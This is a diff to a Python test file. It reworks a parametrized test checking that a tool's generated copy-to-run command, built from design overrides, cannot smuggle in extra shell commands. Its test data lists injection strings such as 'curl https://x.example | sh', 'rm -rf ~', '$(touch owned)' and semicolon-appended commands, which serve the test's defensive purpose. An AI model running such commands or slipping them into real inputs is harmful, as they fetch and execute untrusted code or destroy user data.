@@ -217,25 +217,22 @@ def test_a_browser_may_apply_and_run_what_is_ours_and_nothing_else(tmp_path):
 
 
 @pytest.mark.parametrize(
-    "recorded",
+    "typed",
     [
-        "redesign compare; curl https://x.example | sh",
-        "redesign compare $(touch owned) `touch owned` && owned",
-        ["redesign", "compare", "years=1;touch owned", "|", "sh", "> owned"],
-        "redesign compare 'unended",
-        "curl https://x.example | sh",
-        ["rm", "-rf", "~"],
-        "redesign compare\nrm -rf ~",
-        ["redesign", "compare\nrm -rf ~"],
+        ["years=1; curl https://x.example | sh"],
+        ["$(touch owned)", "`touch owned`", "&&", "touch", "owned"],
+        ["years=1;touch owned", "|", "sh", "> owned"],
+        ["'unended"],
+        ["\nrm -rf ~"],
     ],
 )
-def test_a_command_to_copy_is_one_command_of_ours(tmp_path, recorded):
-    command = strangers.as_command(recorded)
-    if command:
-        line = f"redesign() {{ echo called; }}; {command}"
-        ran = subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, text=True)
-        assert (ran.stdout, ran.stderr) == ("called\n", "")
-    assert list(tmp_path.iterdir()) == []
+def test_a_command_to_copy_is_one_command_of_ours(tmp_path, typed):
+    (tmp_path / "design.json").write_text(json.dumps({"overrides": typed}))
+    command = generic_page.command({"question": "compare\ntouch owned"}, tmp_path)
+    line = f"redesign() {{ echo called; }}; {command}"
+    ran = subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, text=True)
+    assert (ran.stdout, ran.stderr) == ("called\n", "")
+    assert [path.name for path in tmp_path.iterdir()] == ["design.json"]
 
 
 class TestInABrowser:
